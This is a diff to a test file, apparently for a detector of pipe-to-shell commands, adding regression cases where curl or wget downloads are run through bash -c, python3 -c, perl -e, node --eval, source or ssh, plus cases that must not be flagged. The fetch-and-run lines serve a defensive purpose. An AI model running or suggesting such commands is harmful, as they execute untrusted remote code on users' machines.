@@ -447,6 +447,24 @@ describe("pipe-to-shell", () => {
     ["wget -qO - > >(sh)", "wget -qO - https://x.example/i.sh > >(sh)"],
     // Decision: a pipe into a shell is one edit from running the download, whatever curl writes to a file.
     ["curl -o file | sh", "curl -o out.txt https://x.example/i.sh | sh"],
+    // Regression: options before a shell's -c, and an interpreter's -c or -e, hid the download given as
+    // the program's text; a prompt before the command hid `. <(curl …)`.
+    ['bash -e -c "$(curl)"', 'bash -e -c "$(curl -fsSL https://x.example/i.sh)"'],
+    ['bash -o pipefail -c -- "$(curl)"', 'bash -o pipefail -c -- "$(curl -fsSL https://x.example/i.sh)"'],
+    ['sudo bash --login -c "$(wget -O-)"', 'sudo bash --login -c "$(wget -O- https://x.example/i.sh)"'],
+    ['python3 -c "$(curl)"', 'python3 -c "$(curl -fsSL https://x.example/i.py)"'],
+    ['perl -e "$(curl)"', 'perl -e "$(curl -fsSL https://x.example/i.pl)"'],
+    ['node --eval="$(curl)"', 'node --eval="$(curl -fsSL https://x.example/i.js)"'],
+    ["$ . <(curl)", "$ . <(curl -fsSL https://x.example/env.sh)"],
+    // Regression: the command ssh runs was read up to its first `;`, and a later command reading the pipe
+    // was missed.
+    ["curl | ssh host 'cd x; sh'", "curl -fsSL https://x.example/i.sh | ssh host 'cd x; sh'"],
+    [
+      "curl | ssh host 'cd x && cat | sudo sh'",
+      "curl -fsSL https://x.example/i.sh | ssh host 'cd x && cat | sudo sh'",
+    ],
+    ["ssh host 'cd x; sh' < <(curl)", "ssh host 'cd x; sh' < <(curl -fsSL https://x.example/i.sh)"],
+    ["curl | (cd x; cat | sh)", "curl -fsSL https://x.example/i.sh | (cd /tmp; cat | sh)"],
     [
       "iex ((New-Object Net.WebClient).DownloadString())",
       "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/a'))",
@@ -590,6 +608,17 @@ describe("pipe-to-shell", () => {
     ["curl | ssh -n host bash", "curl -s https://x.example/data | ssh -n host bash ./x.sh"],
     ["curl | ssh -W host:port jump", "curl -s https://x.example/data | ssh -W db:5432 jump"],
     ["curl | (cd x; tar)", "curl -s https://x.example/t.tgz | (cd /srv && tar -xz)"],
+    // Regression: a pipe inside a later stage's group split the pipeline there, and the shell after it was
+    // read as reading the download.
+    ["curl | (cat > f; echo | sh)", "curl -fsSL https://x.example/i.sh | (cat > i.sh; echo hi | sh)"],
+    [
+      "curl | ssh host 'cat > f; echo | sh'",
+      "curl -s https://x.example/data | ssh host 'cat > d.json; echo ok | sh'",
+    ],
+    ["curl | ssh host 'cd x; tar'", "curl -s https://x.example/t.tgz | ssh host 'cd /srv; tar -xz'"],
+    // A program's text given by -c or -e that is no download.
+    ['python3 -c "print()" < <(curl)', 'python3 -c "print(1)" < <(curl -s https://x.example/data)'],
+    ['bash -e -c "$(cat)" < <(curl)', 'bash -e -c "$(cat ./x.sh)" < <(curl -s https://x.example/data)'],
     ["$(curl | jq) sh", "echo $(curl -s https://x.example/data | jq -r .v) sh"],
     // Regression: wget writes to a file named by the address unless -O - says standard output.
     ["wget > >(sh)", "wget https://x.example/i.sh > >(sh)"],
